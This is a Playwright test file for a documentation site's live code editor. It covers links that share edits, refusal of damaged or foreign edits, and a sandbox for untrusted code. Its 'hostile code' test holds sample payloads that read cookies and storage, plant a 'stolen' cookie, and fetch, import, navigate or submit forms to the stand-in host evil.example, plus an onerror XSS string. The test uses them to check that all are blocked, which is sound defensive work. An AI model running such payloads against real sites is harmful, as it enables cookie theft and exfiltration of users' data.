import { demo } from '../../../support/demos.ts';
import {
  codeField,
  editErrors,
  editHash,
  openEditor,
  pack,
  preview,
  PREVIEW_TIMEOUT,
  showing,
  writeCode,
} from '../../../support/editor.ts';
import { visit } from '../../../support/shell.ts';
import { test, expect as baseExpect } from '../../../support/test.ts';

const expect = baseExpect.configure({ timeout: PREVIEW_TIMEOUT });
test.describe.configure({ timeout: 90_000 });

const PAGE = '/getting-started/usage';
const DEMO = 'three-styles';
const FILE = `${DEMO}.tsx`;

test('a link reproduces the edit, and runs it only when the reader wants it', async ({
  page,
  context,
}) => {
  await context.grantPermissions(['clipboard-read', 'clipboard-write']);
  await visit(page, PAGE);
  const written = await openEditor(page, DEMO);
  await writeCode(page, written, showing('By link ✓'));
  await expect(preview(written).getByText('By link ✓')).toBeVisible();
  await expect.poll(() => new URL(page.url()).hash).toMatch(/^#edit=three-styles~[\w-]+$/);
  await written.getByRole('button', { name: 'Copy link to the edit' }).click();
  await expect(written.getByText('Link copied')).toBeVisible();
  const link = await page.evaluate(() => navigator.clipboard.readText());
  expect(link).toBe(page.url());

  const other = await context.newPage();
  await other.goto(link);
  const frame = demo(other, DEMO);
  await expect(codeField(frame)).toContainText('By link ✓');
  await expect(frame).toBeInViewport();
  await expect(frame.getByRole('group', { name: 'Code from a link' })).toContainText(
    'not from this site',
  );
  // Untrusted code stays untrusted when the reader changes it.
  await codeField(frame).press('ControlOrMeta+End');
  await other.keyboard.insertText('// Changed');
  await expect(frame.locator('.edit-frame')).toHaveCount(0);
  await expect(frame.locator('.demo-content')).toBeVisible();

  await frame.getByRole('button', { name: 'Run the code' }).click();
  await expect(preview(frame).getByText('By link ✓')).toBeVisible();
  await expect(frame.getByRole('group', { name: 'Code from a link' })).toHaveCount(0);
  await expect(frame).toBeFocused();
  await expect(frame.locator('.demo-content')).not.toBeVisible();
  await frame.getByRole('button', { name: 'Reset' }).click();
  await expect(frame.locator('.demo-content')).toBeVisible();
  await expect.poll(() => new URL(other.url()).hash).toBe(`#${DEMO}`);
});

const STATE = pack([1, 'ts', [[FILE, showing('Foreign')]]]);
const AS_WRITTEN = 'The demo is shown as it was written.';

/** Edits that are not shown, and why. */
const REFUSED: [what: string, state: string, message: string][] = [
  ['cut off', STATE.slice(0, -5), 'The edit in this link is incomplete or damaged.'],
  ['altered', `${STATE.slice(0, 9)}AAA${STATE.slice(12)}`, 'The edit in this link'],
  ['empty', '', 'The edit in this link is incomplete or damaged.'],
  ['huge', 'A'.repeat(1_000_000), 'The edit in this link is too long.'],
  [
    'huge when unpacked',
    pack([1, 'ts', [[FILE, ' '.repeat(5_000_000)]]]),
    'The edit in this link is too long.',
  ],
  ['not ours', pack({ files: {} }), 'The edit in this link was not made by this site.'],
  [
    'of other files',
    pack([1, 'ts', [['other.tsx', '']]]),
    'The edit in this link was made of other files than this demo’s.',
  ],
];

test('a link whose edit is refused says why, and the next one is followed', async ({ page }) => {
  const hashOf = (state: string) => `#edit=${DEMO}~${state}`;
  const go = (to: string) => page.evaluate((hash) => (location.hash = hash), to);
  const frame = demo(page, DEMO);
  const alert = frame.getByRole('alert');
  await visit(page, `${PAGE}${hashOf(REFUSED[0]![1])}`);

  for (const [what, state, message] of REFUSED) {
    await test.step(`an edit that is ${what} is refused with a message`, async () => {
      await go(hashOf(state));
      await expect(alert).toContainText(message);
      await expect(alert).toContainText(AS_WRITTEN);
      await expect(frame.locator('.demo-source pre')).toContainText('ThreeStyles');
      await expect(frame.locator('.demo-content')).toHaveAttribute('data-live');
      await expect(frame.locator('.edit-frame')).toHaveCount(0);
      // So that the next message is not this one.
      await go(`#${DEMO}`);
      await expect(alert).toHaveCount(0);
    });
  }

  await test.step('an edit of a demo that the page does not have is refused', async () => {
    await go(`#edit=no-such-demo~${STATE}`);
    await expect(page.locator('main').getByRole('alert')).toHaveText(
      'The link carries an edit of a demo that this page does not have.',
    );
  });

  await test.step('it is no dead end', async () => {
    await go(hashOf(REFUSED[0]![1]));
    await expect(alert).toContainText(AS_WRITTEN);
    await frame.getByRole('button', { name: 'Edit', exact: true }).click();
    await writeCode(page, frame, showing('My own'));
    await expect(preview(frame).getByText('My own')).toBeVisible();
  });

  await test.step('a link that is followed opens the edit, and the one after it the next', async () => {
    for (const text of ['One', 'Two']) {
      await go(editHash(DEMO, { [FILE]: showing(text) }));
      await expect(codeField(frame)).toContainText(text);
    }
  });

  await test.step('code of a link can be discarded without having run', async () => {
    await frame.getByRole('button', { name: 'Discard it' }).click();
    await expect(codeField(frame)).toContainText('ThreeStyles');
    await expect(frame.getByRole('group', { name: 'Code from a link' })).toHaveCount(0);
    await expect(frame.locator('.demo-content')).toBeVisible();
  });
});

const ELSEWHERE = 'https://evil.example/';

test.describe('hostile code', () => {
  test.use({
    allowedOrigins: ['https://evil.example'],
    allowedMessages: [
      // The browser says what it has kept the code from.
      /^(error|warning|info): .*(Content Security Policy|policy:|sandbox|Unsafe attempt|Blocked|ERR_BLOCKED)/,
    ],
  });

  /** Each reaches for something that is the site's, or out of the frame; what it gets is shown. */
  const ATTEMPTS = {
    'local storage': 'localStorage.getItem("vitrine:preferences")',
    'session storage': 'sessionStorage.setItem("a", "b")',
    cookies: 'document.cookie',
    'set a cookie': 'document.cookie = "stolen=1"',
    databases:
      'await new Promise((done, fail) => { const r = indexedDB.open("a"); r.onsuccess = done; r.onerror = fail; })',
    caches: 'await caches.keys()',
    'service worker': 'await navigator.serviceWorker.getRegistrations()',
    'the page': 'top.document.title',
    'the frame around': 'parent.document.title',
    'its own element': 'frameElement.id',
    'navigate the window': 'top.location.href = "https://evil.example/"',
    'replace the window': 'top.location.replace("https://evil.example/")',
    popup: 'window.open("https://evil.example/").closed',
    'fetch a page of the site': 'await (await fetch("/nav.json")).text()',
    'fetch from elsewhere': 'await fetch("https://evil.example/")',
    'import from elsewhere':
      'await new Function("return import(\\"https://evil.example/a.js\\")")()',
    'evaluate a text': 'eval("1 + 1")',
  };
  const HOSTILE = `import { useEffect, useState } from 'react';
const attempts: Record<string, () => Promise<unknown>> = {
${Object.entries(ATTEMPTS)
  .map(
    ([name, code]) =>
      `  ${JSON.stringify(name)}: async () => { const got = ${code}; return got; },`,
  )
  .join('\n')}
};
export default function Hostile() {
  const [lines, setLines] = useState<string[]>([]);
  useEffect(() => {
    void Promise.all(
      Object.entries(attempts).map(([name, attempt]) =>
        attempt().then((got) => \`\${name}: got \${String(got)}\`, () => \`\${name}: denied\`),
      ),
    ).then(setLines);
  }, []);
  return (
    <>
      <ul>{lines.map((line) => <li key={line}>{line}</li>)}</ul>
      <p>Origin {origin}</p>
      <button onClick={() => { location.href = 'https://evil.example/'; }}>Leave</button>
      <form action="https://evil.example/" onSubmit={() => undefined}><button>Send</button></form>
      <img alt="" src="https://evil.example/pixel.png" />
    </>
  );
}
`;

  test('reaches nothing of the site, and no other place', async ({ page, context }) => {
    // The browser announces also those requests that it then blocks: what counts is what gets out.
    const sent: string[] = [];
    await context.route(`${ELSEWHERE}**`, (route) => {
      sent.push(route.request().url());
      return route.abort();
    });
    await page.goto('/robots.txt');
    await page.evaluate(() => {
      localStorage.setItem('secret', 'secret');
      document.cookie = 'secret=secret; path=/';
    });
    await visit(page, `${PAGE}${editHash(DEMO, { [FILE]: HOSTILE })}`);
    const before = await page.title();
    const frame = demo(page, DEMO);
    await frame.getByRole('button', { name: 'Run the code' }).click();
    await expect(preview(frame).getByRole('listitem')).toHaveText(
      Object.keys(ATTEMPTS).map((name) => `${name}: denied`),
    );
    await expect(preview(frame).getByText('Origin null')).toBeVisible();
    for (const element of [
      frame.locator('.edit-frame'),
      frame.frameLocator('.edit-frame').locator('iframe'),
    ]) {
      const sandbox = (await element.getAttribute('sandbox'))!.split(' ').sort();
      expect(sandbox).toEqual(['allow-forms', 'allow-scripts']);
    }

    await preview(frame).getByRole('button', { name: 'Send' }).click();
    await preview(frame).getByRole('button', { name: 'Leave' }).click();
    // The page is where it was and as it was; what has left is stopped once it does not answer.
    await page.clock.install();
    await writeCode(page, frame, showing('After'));
    await expect(async () => {
      await page.clock.fastForward('00:08');
      await baseExpect(frame.getByRole('alert')).toContainText('has not shown anything', {
        timeout: 200,
      });
    }).toPass();
    await writeCode(page, frame, showing('Anew'));
    await expect(preview(frame).getByText('Anew')).toBeVisible();
    expect(sent).toEqual([]);
    expect(new URL(page.url()).pathname).toBe(PAGE);
    expect(await page.title()).toBe(before);
    expect(context.pages()).toHaveLength(1);
    expect(await page.evaluate(() => [localStorage.getItem('secret'), document.cookie])).toEqual([
      'secret',
      expect.stringContaining('secret=secret'),
    ]);
    expect(await page.evaluate(() => document.cookie)).not.toContain('stolen');

    await test.step('its errors are shown as text', async () => {
      // It has no port to the page.
      const message = '<img src=x onerror="top.hit=1"><b>bold</b>';
      const code = `export default function Hostile() {\n  throw new Error('${message}');\n}`;
      await page.evaluate((hash) => (location.hash = hash), editHash(DEMO, { [FILE]: code }));
      await frame.getByRole('button', { name: 'Run the code' }).click();
      await expect(editErrors(frame)).toHaveText([`${FILE}:2:9 ${message}`]);
      await expect(editErrors(frame).locator('b, img')).toHaveCount(0);
    });
  });
});
